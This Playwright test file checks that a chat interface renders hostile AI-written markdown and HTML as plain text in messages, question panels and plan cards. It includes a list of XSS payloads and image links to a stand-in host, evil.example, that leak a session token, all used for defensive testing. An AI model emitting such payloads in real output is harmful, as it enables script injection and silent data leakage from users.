import { expect, test, type Page } from "@playwright/test";
import { startHost, type TestHost } from "./host";

let host: TestHost;

test.beforeAll(async () => {
  host = await startHost();
});

test.afterAll(async () => {
  await host.dispose();
});

const EVIL = "https://evil.example";

/** Model-written text that would run script or leak data if it were rendered as HTML or loaded automatically. */
const CORPUS = [
  `<script>window.__pwned = "script"; alert("script")</script>`,
  `<img src="x" onerror="window.__pwned = 'img'; alert('img')">`,
  `[click me](javascript:window.__pwned='link';alert('link'))`,
  `<a href="javascript:alert('anchor')">anchor</a>`,
  `<iframe srcdoc="<script>parent.__pwned='iframe';parent.alert('iframe')</script>"></iframe>`,
  `[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)`,
  `![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `<svg onload="window.__pwned = 'svg'; alert('svg')"></svg>`,
  `![tracker](${EVIL}/pixel.png?session=secret-token)`,
  `<img src="${EVIL}/raw.png?leak=1">`,
];

interface Watch {
  dialogs: string[];
  foreign: string[];
}

async function watch(page: Page): Promise<Watch> {
  const seen: Watch = { dialogs: [], foreign: [] };
  const origin = new URL(host.url).origin;
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = request.url();
    if (url.startsWith("data:") || url.startsWith("blob:")) {
      seen.foreign.push(url.slice(0, 60));
      return;
    }
    if (new URL(url).origin !== origin) seen.foreign.push(url);
  });
  await page.route(`${EVIL}/**`, (route) => route.abort());
  return seen;
}

async function openNewSession(page: Page): Promise<string> {
  const created = await page.request.post(`${host.url}/api/sessions`, { data: {} });
  expect(created.status()).toBe(201);
  const { session } = (await created.json()) as { session: { id: string } };
  const response = await page.goto(`${host.url}/#session=${session.id}`);
  const csp = response!.headers()["content-security-policy"] ?? "";
  const scriptSources = csp.split(";").map((part) => part.trim()).find((part) => part.startsWith("script-src")) ?? "";
  expect(scriptSources).toBe("script-src 'self'");
  await expect(page.getByRole("textbox", { name: "Message" })).toBeVisible();
  return session.id;
}

async function postMessage(page: Page, sessionId: string, text: string) {
  const response = await page.request.post(`${host.url}/api/sessions/${sessionId}/messages`, { data: { text } });
  expect(response.status()).toBe(202);
}

async function expectNothingRan(page: Page, seen: Watch) {
  await page.waitForLoadState("networkidle");
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(seen.dialogs).toEqual([]);
  expect(seen.foreign).toEqual([]);
}

test("hostile markdown and HTML in a streamed assistant message render as text: no script runs and nothing loads from another host", async ({ page }) => {
  const seen = await watch(page);
  const sessionId = await openNewSession(page);
  await postMessage(page, sessionId, `/echo ${CORPUS.join("\n\n")}`);
  const transcript = page.getByRole("region", { name: "Messages" });
  await expect(transcript.getByText(`<svg onload="window.__pwned = 'svg'; alert('svg')"></svg>`).last()).toBeVisible();
  await expect(transcript.getByText("click me").last()).toBeVisible();
  await transcript.getByText("click me").last().click();
  await transcript.getByText("anchor", { exact: false }).last().click();
  await expect(transcript.locator("img, iframe, svg[onload], script:not([src])")).toHaveCount(0);
  await expect(transcript.locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0);
  await expectNothingRan(page, seen);
});

test("hostile text in question text, headers, option labels and descriptions is shown as text and answers as sent", async ({ page }) => {
  const seen = await watch(page);
  const sessionId = await openNewSession(page);
  const questions = CORPUS.map((payload, index) => ({
    id: `q${index}`,
    header: payload.slice(0, 100),
    question: `${index}: ${payload}`,
    options: [
      { label: payload.slice(0, 200), description: payload },
      { label: `plain ${index}`, description: `${payload} (second)` },
    ],
  }));
  await postMessage(page, sessionId, `/ask ${JSON.stringify({ questions })}`);
  for (const [index, payload] of CORPUS.entries()) {
    const panel = page.getByRole("region", { name: `${index}: ${payload}` });
    await expect(panel).toBeVisible();
    await expect(panel.getByRole("heading", { name: `${index}: ${payload}` })).toBeVisible();
    await expect(panel.getByRole("radio", { name: payload.slice(0, 200) })).toBeVisible();
    await expect(panel.locator("img, iframe, svg[onload], script:not([src])")).toHaveCount(0);
    await expect(panel.locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0);
    await expectNothingRan(page, seen);
    if (index < CORPUS.length - 1) await panel.getByRole("radio", { name: payload.slice(0, 200) }).click();
    else await panel.getByRole("radio", { name: `plain ${index}` }).click();
  }
  await page.getByRole("button", { name: "Submit" }).click();
  const expected = CORPUS.map((payload, index) => ({ id: `q${index}`, selected: [index < CORPUS.length - 1 ? payload.slice(0, 200) : `plain ${index}`] }));
  await expect(page.getByText(`Answers: ${JSON.stringify({ answers: expected })}`)).toBeVisible();
  await expectNothingRan(page, seen);
});

test("a hostile plan in the plan-review card renders as text and can be approved", async ({ page }) => {
  const seen = await watch(page);
  const sessionId = await openNewSession(page);
  await postMessage(page, sessionId, `/plan # Plan\n\n${CORPUS.join("\n\n")}`);
  await expect(page.getByRole("button", { name: "Approve" })).toBeVisible();
  await expect(page.getByText(`<script>window.__pwned = "script"; alert("script")</script>`).first()).toBeVisible();
  await expect(page.locator("img, iframe, svg[onload]")).toHaveCount(0);
  await expectNothingRan(page, seen);
  await page.getByRole("button", { name: "Approve" }).click();
  await expect(page.getByText("Plan approved.")).toBeVisible();
  await expectNothingRan(page, seen);
});
